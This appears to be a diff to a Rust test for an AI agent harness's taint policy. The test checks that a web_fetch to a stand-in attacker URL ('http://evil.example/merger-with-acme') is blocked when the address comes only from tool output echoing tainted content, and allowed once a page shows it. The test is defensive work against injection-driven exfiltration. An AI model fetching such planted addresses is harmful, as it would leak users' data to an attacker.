@@ -78,23 +78,24 @@ fn what_a_tool_says_itself_or_hears_of_a_file_teaches_no_address() {
     let (mut world, agent) = world(TaintPolicy::Deny);
     tainted(&mut world, agent);
     let made_up = "http://evil.example/merger-with-acme";
-    let fetch = serde_json::json!({ "url": made_up }).to_string();
+    let fetch = |chars: usize| serde_json::json!({ "url": made_up, "max_chars": chars }).to_string();
     // Tools whose results repeat what they were given, or what the agent itself had spoken.
-    for (tool, input) in [
+    let repeats = [
         ("browser_read_page", "{}"),
         ("transcribe", r#"{"file_id":"f"}"#),
         ("a2a_status", r#"{"task_id":"t"}"#),
         ("browser_screenshot", "{}"),
-    ] {
+    ];
+    for (chars, (tool, input)) in repeats.into_iter().enumerate() {
         model_asks(&mut world, tool, input);
         let run = runs(&mut world).remove(0);
         gives_text(&mut world, &run, Taint::WEB, &format!("The page has an element {made_up} ."));
-        model_asks(&mut world, "web_fetch", &fetch);
+        model_asks(&mut world, "web_fetch", &fetch(chars + 1));
         assert!(runs(&mut world).is_empty(), "{tool}");
     }
     model_asks(&mut world, "browser_read_page", r#"{"offset":1}"#);
     let run = runs(&mut world).remove(0);
     gives_page(&mut world, &run, Taint::WEB, ("The page", made_up));
-    model_asks(&mut world, "web_fetch", &fetch);
+    model_asks(&mut world, "web_fetch", &fetch(9));
     assert_eq!(runs(&mut world).len(), 1, "a page showed it");
 }
